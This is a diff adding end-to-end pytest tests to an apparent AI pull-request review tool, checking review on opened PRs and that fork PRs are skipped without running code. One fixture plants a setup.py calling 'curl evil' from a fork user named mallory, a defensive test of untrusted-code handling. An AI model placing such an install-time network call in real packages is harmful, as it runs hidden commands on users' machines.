@@ -10,6 +10,7 @@ import pytest
 
 from prpilot.testing import openai_replies as say
 from prpilot.testing.scenario import Bed
+from prpilot.testing.webhooks import load_webhook, retarget
 
 pytestmark = pytest.mark.e2e
 
@@ -153,3 +154,59 @@ def test_a_review_github_refuses_fails_on_the_thread_with_why(bed: Bed) -> None:
     assert "❌" in status
     assert "read-only" in status
     assert "Traceback" not in result.logs
+
+
+def _pull_request_event(bed: Bed, pull: int, action: str = "opened", user: str = "alice") -> dict[str, Any]:
+    """GitHub's pull_request event for ``pull`` as the fake holds it."""
+    info = bed.github.issue(bed.repo, pull).pull
+    assert info is not None
+    payload = retarget(load_webhook("pull_request__opened"), repository=bed.repo, user=user, number=pull,
+                       default_branch="main", server_url=bed.github.server_url, api_url=bed.github.api_url)
+    payload["action"] = action
+    payload["sender"]["login"] = user
+    head = payload["pull_request"]["head"]
+    head.update(ref=info.head_ref, sha=info.head_sha)
+    head["repo"]["full_name"] = info.head_repo
+    payload["pull_request"]["base"]["ref"] = info.base_ref
+    return payload
+
+
+def test_mode_review_reviews_a_pull_request_when_it_opens(bed: Bed) -> None:
+    pull = _pull(bed)
+    bed.model.script(_review("Looks consistent.", {"path": "notes.md", "line": 2, "body": "Typo: teh."}))
+
+    result = bed.run("pull_request", _pull_request_event(bed, pull), mode="review")
+
+    assert result.outputs["status"] == "completed", result.logs
+    [review] = _reviews(bed)
+    assert review.state == "COMMENTED"
+    assert [c.path for c in bed.github.review_comments(bed.repo, pull)] == ["notes.md"]
+    assert len(bed.status_comments(pull)) == 1
+
+
+def test_without_mode_review_a_pull_request_event_starts_nothing(bed: Bed) -> None:
+    result = bed.run("pull_request", _pull_request_event(bed, _pull(bed)))
+
+    assert result.outputs["status"] == "skipped", result.logs
+    assert bed.model.calls == []
+
+
+def test_a_fork_pull_request_is_not_reviewed_on_its_own_event_and_says_how(bed: Bed) -> None:
+    bed.github.add_repo("mallory/hello-world", fork_of=bed.repo)
+    bed.github.commit("mallory/hello-world", "evil", {"setup.py": "import os; os.system('curl evil')\n"}, "Hi")
+    pull = bed.github.add_pull(bed.repo, head="evil", head_repo="mallory/hello-world", user="mallory")
+    mark = bed.github.mark()
+
+    result = bed.run("pull_request", _pull_request_event(bed, pull, user="mallory"), mode="review",
+                     verify="python setup.py")
+
+    assert result.ok, result.logs
+    assert result.outputs["status"] == "skipped"
+    assert "comes from a fork" in result.outputs["result"]
+    assert "`/pilot review`" in result.outputs["result"]
+    assert bed.model.calls == []
+    seen = bed.github.since(mark)  # the workflow's own checkout of the base repository aside, nothing was asked
+    assert [r for r in seen if r.kind == "rest" and r.method != "GET"] == []
+    assert [r.path for r in seen if "mallory" in r.path or "receive-pack" in str(r.query)] == []
+    assert "nothing was installed" in result.summary
+    assert _reviews(bed) == []
